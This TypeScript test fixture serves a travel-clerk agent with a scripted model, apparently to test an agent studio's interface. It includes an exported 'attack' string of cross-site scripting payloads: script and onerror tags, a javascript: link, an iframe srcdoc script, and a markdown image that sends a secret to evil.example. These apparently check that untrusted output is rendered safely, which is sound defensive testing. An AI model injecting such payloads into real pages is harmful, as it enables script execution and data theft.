/** A served office: an agent for each element that a page has to show, with a model that follows the user's words. */
import { Agent, Approval, Conversation, Recovery, Runs, Tool } from "@recourse/core"
import { Authentication, MemoryRuns, Server } from "@recourse/server"
import { Studio } from "@recourse/studio"
import { ScriptedModel } from "@recourse/testing"
import { Context, Data, Deferred, Effect, Layer, Redacted, Schedule, Schema } from "effect"
import type { Prompt as PromptType } from "effect/ai"
import { Prompt } from "effect/ai"
import { HttpRouter } from "effect/http"
import { listening, serving } from "./serving.ts"

class Down extends Data.TaggedError("Down") {}

const escalate = Recovery.escalate("ExecutionError", "InvalidArgs")

/** Executions of tools, and a gate for the slow one. */
export class World {
  readonly deeds: Array<string> = []
  readonly gate = Deferred.makeUnsafe<void>()
}

const clerk = (world: World) => {
  let failures = 0
  const Search = Tool.make("search_hotels", {
    description: "Finds hotels in a city",
    parameters: Schema.Struct({ city: Schema.String, nights: Schema.optionalKey(Schema.Int) }),
    success: Schema.Struct({ hotels: Schema.Array(Schema.String) }),
    effects: "read",
    execute: ({ city }) =>
      Effect.suspend(() => {
        world.deeds.push(`search ${city}`)
        if (city === "Atlantis") return Effect.fail(new Down())
        return city === "Porto" && failures++ === 0
          ? Effect.fail(new Down())
          : Effect.succeed({ hotels: [`Hotel ${city}`, "Pensão Central"] })
      })
  }).pipe(
    Tool.onError((call) => call.pipe(Recovery.retry({ times: 1, schedule: Schedule.spaced("300 millis") }), escalate))
  )
  const Pay = Tool.make("pay_deposit", {
    description: "Pays a deposit; asks first",
    parameters: Schema.Struct({ hotel: Schema.String, euros: Schema.Number }),
    success: Schema.String,
    effects: "write",
    needsApproval: true,
    execute: ({ euros, hotel }) =>
      Effect.sync(() => {
        world.deeds.push(`pay ${euros} ${hotel}`)
        return `Paid ${euros} euros to ${hotel}`
      })
  })
  const Slow = Tool.make("write_plan", {
    description: "Writes the plan of a trip",
    success: Schema.String,
    effects: "write",
    execute: () =>
      Effect.andThen(
        Deferred.await(world.gate),
        Effect.sync(() => {
          world.deeds.push("plan")
          return "written"
        })
      )
  })
  const Invoice = Tool.make("send_invoice", {
    description: "Sends an invoice; the service does not answer",
    parameters: Schema.Struct({ euros: Schema.Number }),
    effects: "write",
    timeout: "40 millis",
    execute: ({ euros }) => Effect.andThen(Effect.sync(() => world.deeds.push(`invoice ${euros}`)), Effect.never)
  })
  const Ask = Tool.client("ask_user", {
    description: "Asks the user: a choice, a text or a confirmation",
    parameters: Schema.Struct({
      question: Schema.String,
      kind: Schema.Literals(["choice", "text", "confirmation"]),
      choices: Schema.optionalKey(Schema.Array(Schema.String)),
      multiple: Schema.optionalKey(Schema.Boolean)
    }),
    success: Schema.Struct({ answer: Schema.Union([Schema.String, Schema.Boolean, Schema.Array(Schema.String)]) }),
    effects: "read"
  })
  return Agent.make("clerk", {
    input: Prompt.Prompt,
    prompt: (conversation) => conversation,
    tools: [Search, Pay, Slow, Invoice, Ask],
    defaults: { onError: Recovery.standard }
  })
}

/** The user's last message, and the number of messages of the model and of tools behind it. */
const turnOf = ({ content }: PromptType.Prompt): { readonly said: string; readonly after: number } => {
  const last = content.findLastIndex(({ role }) => role === "user")
  const message = content[last]
  const said = message?.role === "user"
    ? message.content.flatMap((part) => part.type === "text" ? [part.text] : []).join("")
    : ""
  return { said, after: content.length - last - 1 }
}

/** A text that came from outside and would like to do something. */
export const attack = [
  "<img src=x onerror=\"window.hacked=1\"><script>window.hacked=1</script>",
  "[link](javascript:window.hacked=1) ![picture](https://evil.example/?secret)",
  "<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe><style>body{display:none}</style>"
].join("\n\n")

export const markdown = `# Lisbon in two days

**Day 1** is for the old town:

1. Alfama, by tram 28
2. The castle, before ten

| Place | Hours |
| --- | --- |
| Castle | 9 to 21 |
| Museum | 10 to 18 |

- [x] Train booked
- [ ] Hotel

\`\`\`ts
const days = 2
\`\`\`

More at [the office](https://example.com/lisbon).`

const { call, calls, delay, failure, text } = ScriptedModel

const longText = Array.from({ length: 40 }, (_, index) => `word${index + 1}`).join(" ")

const model: ScriptedModel.Behaviour = ({ prompt }, index) => {
  const { after, said } = turnOf(prompt)
  const id = (name: string) => `call_${name}_${index}`
  const one = (name: string, params: unknown) => call(name, params, { id: id(name) })
  const isFirst = after === 0
  switch (said.split(":")[0]) {
    case "hotels":
      return isFirst ? one("search_hotels", { city: said.slice(7).trim(), nights: 2 }) : text("Here they are.")
    case "pay":
      return isFirst ? one("pay_deposit", { hotel: "Hotel Mar", euros: 120 }) : text("It is settled.")
    case "pay twice":
      return isFirst
        ? calls([
          { id: id("a"), name: "pay_deposit", params: { hotel: "Hotel Mar", euros: 120 } },
          { id: id("b"), name: "pay_deposit", params: { hotel: "Hotel Sol", euros: 80 } }
        ])
        : text("Both are settled.")
    case "invoice":
      return isFirst ? one("send_invoice", { euros: 90 }) : text("It may have been sent. Please check.")
    case "plan":
      return isFirst ? one("write_plan", {}) : text("The plan is written.")
    case "ask":
      return isFirst
        ? one("ask_user", JSON.parse(said.slice(4)))
        : text(`The user says ${
          JSON.stringify(
            prompt.content.flatMap((message) =>
              message.role === "tool"
                ? message.content.flatMap((part) => part.type === "tool-result" ? [part.result] : [])
                : []
            ).at(-1)
          ) ?? "nothing"
        }`)
    case "attack":
      return isFirst ? one("search_hotels", { city: attack }) : text(attack, { reasoning: attack })
    case "markdown":
      return text(markdown)
    case "slowly":
      return text(longText, { pace: "30 millis" })
    case "fail":
      return failure("AuthenticationError")
    case "number":
      return text(`Number ${index}.`)
    case "wait":
      return delay("400 millis", text("After a while."))
    default:
      return text(`You said: ${said}`)
  }
}

export interface Office {
  readonly url: string
  readonly world: World
  readonly runs: Runs.RunsService
  readonly listRuns: () => Promise<ReadonlyArray<Runs.RunInfo>>
  /** The model's last prompt. */
  readonly lastPrompt: () => Promise<string>
  readonly open: () => Promise<void>
  readonly close: () => Promise<void>
}

export interface Options {
  readonly principal?: Authentication.Principal
  readonly conversations?: Layer.Layer<Conversation.Conversations>
  /** The port of an office that was closed, to open it there again. */
  readonly port?: number
  readonly server?: Partial<Server.Options>
}

/** Opens an office on a free port of this machine. */
export const openOffice = async (options?: Options): Promise<Office> => {
  const world = new World()
  const cards: ReadonlyArray<Server.AgentCard> = [{
    name: "clerk",
    title: "Travel clerk",
    description: "Finds hotels, writes plans, and pays deposits when you allow it.",
    tools: [
      { name: "search_hotels", description: "Finds hotels in a city" },
      { name: "pay_deposit", description: "Pays a deposit; asks first" }
    ],
    suggestions: ["hotels: Lisbon", "markdown"],
    files: ["image/png", "text/plain"]
  }]
  const app = HttpRouter.serve(
    Layer.mergeAll(Server.layer({ agents: cards, ...options?.server }), Studio.layer()),
    { disableListenLog: true, disableLogger: true }
  )
  const layer = app.pipe(
    Layer.provideMerge(listening(options?.port)),
    Layer.provideMerge(MemoryRuns.layer({ agents: [clerk(world)], gracePeriod: 0 })),
    Layer.provide([
      Authentication.layerAnonymous(options?.principal ?? { id: "ada" }),
      Approval.layerKey(Redacted.make("a key of the studio's tests with 32 bytes or more"))
    ]),
    Layer.provideMerge(options?.conversations ?? Conversation.layerMemory),
    Layer.provideMerge(ScriptedModel.layer(model))
  )
  const { close, context, url } = await serving(layer)
  const script = Context.get(context, ScriptedModel.ScriptedModel)
  return {
    url,
    world,
    runs: Context.get(context, Runs.Runs),
    listRuns: () => Effect.runPromise(Context.get(context, Runs.Runs).list({ limit: 1000 })),
    lastPrompt: async () => JSON.stringify((await Effect.runPromise(script.lastRequest)).prompt),
    open: () => Effect.runPromise(Effect.asVoid(Deferred.succeed(world.gate, undefined))),
    close
  }
}
